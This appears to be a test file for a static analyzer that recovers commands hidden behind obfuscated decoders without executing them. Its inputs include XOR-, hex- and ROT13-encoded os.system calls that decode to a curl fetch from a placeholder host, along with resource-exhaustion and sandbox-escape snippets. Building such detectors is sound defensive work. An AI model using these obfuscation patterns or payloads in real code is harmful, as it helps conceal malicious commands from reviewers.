"""Decoders that a file brings along are computed on its syntax tree, and never run without bound."""

from __future__ import annotations

import pytest

from fimci.capabilities.uses import known
from fimci.readers.code.python_syntax.program import program
from tests import growth

TURNED = "`vqo#kwws9,,k-f{bnsof,b"


def command(text: str) -> str:
    """Return what the first command is that a text starts."""
    uses = program(text.encode(), "a.py").uses
    return next((known(use.arguments[0]) for use in uses if use.name == "os.system"), "")


@pytest.mark.parametrize(
    "text",
    [
        f"def d(s, k):\n o = ''\n for c in s:\n  o += chr(ord(c)^k)\n return o\nos.system(d('{TURNED}', 3))",
        f"o = ''\nfor c in '{TURNED}':\n o += chr(ord(c) ^ 3)\nos.system(o)",
        f"o = []\nfor c in '{TURNED}':\n o.append(chr(ord(c) ^ 3))\nos.system(''.join(o))",
        f"os.system(''.join(map(lambda c: chr(ord(c) ^ 3), '{TURNED}')))",
        f"d = lambda s, k=3: ''.join(chr(ord(c) ^ k) for c in s)\nos.system(d('{TURNED}'))",
        (
            f"def d(s):\n o, i = '', 0\n while i < len(s):\n  o += chr(ord(s[i]) ^ 3)\n  i += 1\n return o\n"
            f"os.system(d('{TURNED}'))"
        ),
        (
            "def d(s):\n return ''.join(chr(int(s[i:i+2], 16)) for i in range(0, len(s), 2))\n"
            "os.system(d('6375726c20687474703a2f2f682e6578616d706c652f61'))"
        ),
        (
            "k = b'key'\nos.system(bytes(b ^ k[i % 3] for i, b in enumerate(bytes.fromhex("
            "'08100b0745111f1109514a56034b1c1304141b091c4404'))).decode())"
        ),
        (
            "def d(s):\n o = ''\n for c in s:\n  if c.isalpha():\n   b = 65 if c.isupper() else 97\n"
            "   o += chr((ord(c) - b + 13) % 26 + b)\n  else:\n   o += c\n return o\n"
            "os.system(d('phey uggc://u.rknzcyr/n'))"
        ),
        (
            "def d(l):\n t = 'abcdefghijklmnopqrstuvwxyz:/. '\n return ''.join([t[n] for n in reversed(l)])\n"
            "os.system(d([0,27, 4, 11, 15, 12, 0,23, 4, 28, 7, 27,27,26,15,19,19, 7,29, 11, 17, 20, 2]))"
        ),
    ],
)
def test_a_decoder_of_the_file_is_computed(text: str) -> None:
    assert command("import os\n" + text) == "curl http://h.example/a"


@pytest.mark.parametrize(
    "text",
    [
        "def d(s):\n while True:\n  s += chr(1)\nos.system(d('a'))",
        "def d(s):\n return d(s + chr(1))\nos.system(d('a'))",
        "def d(s):\n while True:\n  s = s.replace('a', 'aa') or chr(1)\nos.system(d('a'))",
        "def d(s):\n return chr(9 ** 9 ** 9 ** 9)\nos.system(d('a'))",
        "def d(s):\n return chr(1 << 10 ** 9) * 10 ** 9\nos.system(d('a'))",
        "def d(s):\n return [chr(1) for a in range(10 ** 9) for b in range(10 ** 9)]\nos.system(d('a'))",
        "def d(s):\n l = [chr(1)]\n while l:\n  l.extend(l)\nos.system(d('a'))",
        "def d(s):\n return s.format(chr(1)).zfill(10 ** 9)\nos.system(d('a'))",
        "def d(s):\n return ''.__class__.__base__.__subclasses__()[int('1')]()\nos.system(d('a'))",
        "def d(s):\n return __import__('os').popen(chr(97))\nos.system(d('a'))",
        "d = lambda s: " + "(" * 500 + "chr(1)" + ")" * 500 + "\nos.system(d('a'))",
    ],
)
def test_nothing_is_run_and_what_never_ends_is_given_up(text: str) -> None:
    assert program(b"import os\n" + text.encode(), "a.py").decoded == ()


def test_the_time_grows_with_the_text() -> None:
    growth.is_linear(
        lambda text: program(text, "a.py"),
        lambda count: (
            b"def d(s):\n return ''.join(chr(ord(c) ^ 1) for c in s)\n"
            + b"".join(b"exec(d('%d'))\n" % number for number in range(count))
        ),
        100,
    )
